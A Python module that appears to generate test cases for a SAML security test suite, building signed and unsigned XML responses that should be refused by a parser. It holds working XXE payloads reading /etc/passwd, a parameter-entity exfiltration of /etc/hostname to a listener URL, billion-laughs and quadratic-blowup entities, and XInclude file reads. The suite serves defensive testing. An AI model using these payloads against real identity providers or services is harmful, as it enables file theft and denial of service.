"""Row S13: document types, entities, inclusions and everything else that makes a parser fetch or swell.

The signatures are genuine where a document can carry one: the DOCTYPE goes in front of signed bytes, and the
entity stands for exactly the text that was signed, so that a parser which expands it finds the signature good.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

from ..case import EVIL, HONEST, REFUSED, SIGNED_IDENTITY, Case, Kit
from ..edit import replace_once
from ..message import EMAIL, attribute, statement
from .wrapping import evil_message

XINCLUDE = "http://www.w3.org/2001/XInclude"
XSI = "http://www.w3.org/2001/XMLSchema-instance"


def doctype(kit: Kit, subset: str, name: str = "samlp:Response") -> bytes:
    """A document type with this internal subset; {canary} stands for the listener."""
    return f"<!DOCTYPE {name} [{subset.replace('{canary}', kit.world.canary)}]>".encode()


def before_signed(subset: str) -> Callable[[Kit], bytes]:
    """The declaration in front of an honest, signed response that does not use it."""
    return lambda kit: doctype(kit, subset) + kit.signed("both")


def external(kind: str) -> Callable[[Kit], bytes]:
    """An external DTD."""

    def build(kit: Kit) -> bytes:
        identifier = f'SYSTEM "{kit.world.canary}/x.dtd"' if kind == "system" else f'PUBLIC "-//x//y" "{kit.world.canary}/x.dtd"'
        identifier = 'SYSTEM "file:///etc/passwd"' if kind == "file" else identifier
        return f"<!DOCTYPE samlp:Response {identifier}>".encode() + kit.signed("both")

    return build


def entity_for(what: str, declaration: str) -> Callable[[Kit], bytes]:
    """An entity in place of the NameID, of a group, or around the NameID."""

    def build(kit: Kit) -> bytes:
        octets = kit.signed("assertion")
        if what == "name-id":
            octets = replace_once(octets, f">{HONEST}<", ">&e;<")
        elif what == "group":
            octets = replace_once(octets, ">staff<", ">&e;<")
        elif what == "around":
            octets = replace_once(octets, f">{HONEST}<", f">&e;{HONEST}&e;<")
        else:
            octets = replace_once(octets, "<samlp:Status>", "<samlp:Status>&e;")
        return doctype(kit, declaration) + octets

    return build


def unsigned_with(declaration: str, text: str) -> Callable[[Kit], bytes]:
    """An unsigned response: what an attacker without any account can send."""

    def build(kit: Kit) -> bytes:
        return doctype(kit, declaration) + replace_once(evil_message(kit).xml().encode(), f">{EVIL}<", f">{text}<")

    return build


def attribute_default(kit: Kit) -> bytes:
    """The DTD gives the Destination and an id that the document does not write."""
    octets = kit.signed("assertion", kit.message(destination=None))
    return doctype(kit, f'<!ATTLIST samlp:Response Destination CDATA "{kit.idp.acs}">') + octets


def signed_inside(name_id_xml: str) -> Callable[[Kit], bytes]:
    """Something inside the NameID that was signed by the IdP."""

    def build(kit: Kit) -> bytes:
        text = name_id_xml.replace("{canary}", kit.world.canary)
        return kit.signed("assertion", kit.message(name_id_xml=f'<saml:NameID Format="{EMAIL}">{text}</saml:NameID>'))

    return build


def signed_group(value_xml: str) -> Callable[[Kit], bytes]:
    """Something inside a group value that was signed by the IdP."""

    def build(kit: Kit) -> bytes:
        text = value_xml.replace("{canary}", kit.world.canary)
        return kit.signed("assertion", kit.message(attributes_xml=statement(attribute("groups", [text]))))

    return build


def schema_location(where: str) -> Callable[[Kit], bytes]:
    """xsi:schemaLocation pointing at the listener, on the envelope or in what is signed."""

    def build(kit: Kit) -> bytes:
        hint = f' xmlns:xsi="{XSI}" xsi:schemaLocation="urn:oasis:names:tc:SAML:2.0:protocol {kit.world.canary}/saml.xsd"'
        change = {"response_attributes": hint} if where == "envelope" else {"assertion_attributes": hint}
        return kit.signed("assertion", kit.message(**change))

    return build


def with_instruction(text: str, place: str) -> Callable[[Kit], bytes]:
    """A processing instruction before, inside or after the envelope."""

    def build(kit: Kit) -> bytes:
        octets = kit.signed("assertion")
        instruction = text.replace("{canary}", kit.world.canary).encode()
        if place == "before":
            return instruction + octets
        if place == "after":
            return octets + instruction
        return replace_once(octets, b"<samlp:Status>", instruction + b"<samlp:Status>")

    return build


LAUGHS = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {n} "{f"&{p};" * 10}">' for p, n in zip("abcdefghi", "bcdefghij", strict=True)) + '<!ENTITY e "&j;">'
ENTITIES = {
    "internal-same-text": f'<!ENTITY e "{HONEST}">',
    "internal-evil": f'<!ENTITY e "{EVIL}">',
    "internal-empty": '<!ENTITY e "">',
    "external-file": '<!ENTITY e SYSTEM "file:///etc/passwd">',
    "external-device": '<!ENTITY e SYSTEM "file:///dev/zero">',
    "external-http": '<!ENTITY e SYSTEM "{canary}/entity">',
    "external-public": '<!ENTITY e PUBLIC "x" "{canary}/entity">',
    "external-php": '<!ENTITY e SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">',
    "parameter-http": '<!ENTITY % p SYSTEM "{canary}/parameter.dtd"> %p; <!ENTITY e "x">',
    "parameter-file": '<!ENTITY % p SYSTEM "file:///etc/passwd"> %p; <!ENTITY e "x">',
    "parameter-exfiltration": '<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % p "<!ENTITY &#x25; s SYSTEM \'{canary}/?%f;\'>"> %p; %s; <!ENTITY e "x">',
    "billion-laughs": LAUGHS,
    "quadratic": f'<!ENTITY q "{"x" * 50000}"><!ENTITY e "{"&q;" * 5000}">',
    "recursive": '<!ENTITY e "&f;"><!ENTITY f "&e;">',
    "self-recursive": '<!ENTITY e "&e;">',
    "parameter-recursive": '<!ENTITY % e "&#37;e;"> %e;',
    "markup": "<!ENTITY e '<saml:Evil/>'>",
    "redefined-lt": '<!ENTITY lt "&#38;#60;"><!ENTITY e "&lt;">',
    "redefined-amp": '<!ENTITY amp "evil"><!ENTITY e "&amp;">',
    "notation": '<!NOTATION n SYSTEM "{canary}/notation"><!ENTITY e SYSTEM "{canary}/unparsed" NDATA n>',
}
PLAIN = {
    "empty-subset": "",
    "element": "<!ELEMENT samlp:Response ANY>",
    "id-attribute": "<!ATTLIST saml:Assertion ID ID #IMPLIED>",
    "unused-entity": '<!ENTITY e "x">',
    "comment": "<!-- ]> -->",
    "instruction": "<?x ]> ?>",
    "conditional": "<![IGNORE[ x ]]>",
}


def cases() -> Iterator[Case]:
    """Document types, entities, inclusions, hints, instructions."""
    made: list[tuple[str, str, str, Callable[[Kit], bytes]]] = []
    for name, subset in PLAIN.items():
        made.append((f"doctype-{name}", f"a DOCTYPE: {name}", REFUSED, before_signed(subset)))
    for kind in ("system", "public", "file"):
        made.append((f"external-dtd-{kind}", f"an external DTD: {kind}", REFUSED, external(kind)))
    for name, declaration in ENTITIES.items():
        for where in ("name-id", "group", "around", "status"):
            if where in ("group", "around") and not name.startswith(("internal", "external-http", "external-file", "billion")):
                continue
            made.append((f"entity-{name}-{where}", f"entity {name} in {where}", REFUSED, entity_for(where, declaration)))
        made.append((f"unsigned-{name}", f"entity {name}, nothing signed", REFUSED, unsigned_with(declaration, "&e;")))
    made.append(("attribute-default", "the DTD supplies attributes", REFUSED, attribute_default))
    include = f'<i:include xmlns:i="{XINCLUDE}" href="{{canary}}/include" parse="text"><i:fallback>{HONEST}</i:fallback></i:include>'
    made.append(("xinclude-name-id", "XInclude in the NameID", REFUSED, signed_inside(include)))
    made.append(("xinclude-file", "XInclude of a file in the NameID", REFUSED, signed_inside(include.replace("{canary}/include", "file:///etc/passwd"))))
    made.append(("xinclude-group", "XInclude in a group", SIGNED_IDENTITY, signed_group(include)))
    made.append(("undefined-entity", "an entity that nobody declared", REFUSED, lambda k: replace_once(k.signed("assertion"), f">{HONEST}<", ">&undeclared;<")))
    for where in ("envelope", "assertion"):
        made.append((f"schema-location-{where}", f"xsi:schemaLocation on the {where}", SIGNED_IDENTITY, schema_location(where)))
    for place in ("before", "inside", "after"):
        sheet = '<?xml-stylesheet type="text/xsl" href="{canary}/style.xsl"?>'
        made.append((f"stylesheet-{place}", f"a stylesheet instruction {place}", SIGNED_IDENTITY, with_instruction(sheet, place)))
    for number, (name, title, expect, build) in enumerate(made, 1):
        yield Case(f"S13.{number:03}-{name}", title, expect, build, fields={"within_seconds": 2})
